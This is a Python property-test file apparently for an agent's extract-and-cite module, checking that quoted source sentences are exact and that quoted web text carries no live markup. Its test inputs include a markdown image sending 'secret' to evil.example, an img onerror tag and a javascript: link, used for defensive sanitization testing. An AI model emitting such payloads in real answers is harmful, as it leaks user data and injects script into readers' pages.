"""Answers made of the sources' own sentences: what holds for every source and question."""

from __future__ import annotations

from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agentmem.models.extract import ExtractSource, extract_answer
from agentmem.prompt.cite import Citation, cited_numbers, resolve_citations
from agentmem.text.clean import show_quote
from tests.properties.strategies import texts

NASTY = (
    "![lamp](https://evil.example/?q=secret)",
    "The lamp [1] is red [9].",
    "[2]: https://evil.example",
    "【3】",
    "[^1]",
    "`",
    "```\nlamp\n```",
    "<img src=x onerror=y>",
    "<https://evil.example/lamp>",
    "![a][b]\n\n[b]: https://evil.example",
    "[lamp](javascript:alert)",
    "    lamp",
    "[",
    "!",
    "![",
    "- lamp\n- cable",
    "# Lamps\n\nThe lamp is red.",
    "Ada: Where is the lamp?\n\nBob: On the desk.",
)


def passages() -> st.SearchStrategy[str]:
    pieces = st.sampled_from(NASTY) | texts(max_size=20) | st.just("The lamp is red. ")
    return st.lists(pieces, max_size=6).map(" ".join) | st.lists(pieces, max_size=4).map("".join)


def all_sources() -> st.SearchStrategy[list[ExtractSource]]:
    return st.lists(st.tuples(passages(), texts(max_size=10)), max_size=4).map(
        lambda rows: [
            ExtractSource(index=number, text=text, title=title)
            for number, (text, title) in enumerate(rows, start=1)
        ]
    )


QUESTIONS = st.sampled_from(("Where is the lamp?", "lamp", "how many lamps", "日本")) | texts(30)


@given(question=QUESTIONS, sources=all_sources(), most=st.integers(1, 5))
@example(
    question="lamp",
    sources=[ExtractSource(index=1, text="The lamp `a", title="")],
    most=1,
)
def test_an_extract_quotes_and_cites_what_exists(
    question: str, sources: list[ExtractSource], most: int
) -> None:
    """E1 Verbatim extract. Every sentence quoted stands letter for letter in the source it cites, and every number in the answer is that source's."""
    answer = extract_answer(question, sources, most_sentences=most)
    texts_by_index = {source.index: source.text for source in sources}
    assert answer.found == bool(answer.sentences)
    assert len(answer.sentences) <= most
    for part in answer.sentences:
        assert part.quote == texts_by_index[part.index][part.start : part.end]
        assert part.quote.strip()
    citations = [Citation(index=source.index, source="web") for source in sources]
    resolved = resolve_citations(answer.text, citations)
    assert resolved.text == answer.text
    assert not resolved.missing
    assert cited_numbers(answer.text) == tuple(
        dict.fromkeys(part.index for part in answer.sentences)
    )


@given(pieces=st.lists(st.sampled_from(NASTY) | texts(max_size=12), max_size=8))
@example(pieces=["[1", "[2]", "]"])
@example(pieces=["!", "[", "a](b)"])
def test_what_is_shown_of_others_is_not_live(pieces: list[str]) -> None:
    """E2 No live markup. Text of a page shown in an answer holds no image, link, tag or citation mark, and showing it again changes nothing."""
    for text in (" ".join(pieces), "".join(pieces)):
        shown = show_quote(text)
        assert show_quote(shown) == shown
        assert cited_numbers(shown) == ()
        tokens = MarkdownIt("commonmark").parse(shown + " [1]\n\n[1]: https://own.example")
        inline = [child for token in tokens for child in token.children or ()]
        assert not any(child.type in ("image", "html_inline") for child in inline)
        assert not any(token.type == "html_block" for token in tokens)
        links = [child.attrGet("href") for child in inline if child.type == "link_open"]
        assert set(links) <= {"https://own.example"}


@given(
    question=QUESTIONS,
    sources=all_sources(),
    order=st.randoms(use_true_random=False),
)
def test_the_order_of_sources_changes_no_score(
    question: str, sources: list[ExtractSource], order: object
) -> None:
    """E3 Order of sources. The best score and whether anything is found do not depend on the order in which the sources are given."""
    shuffled = list(sources)
    order.shuffle(shuffled)  # type: ignore[attr-defined]  # hypothesis gives a random.Random
    first, second = extract_answer(question, sources), extract_answer(question, shuffled)
    assert first.found == second.found
    if first.found:
        assert abs(first.sentences[0].score - second.sentences[0].score) < 1e-6
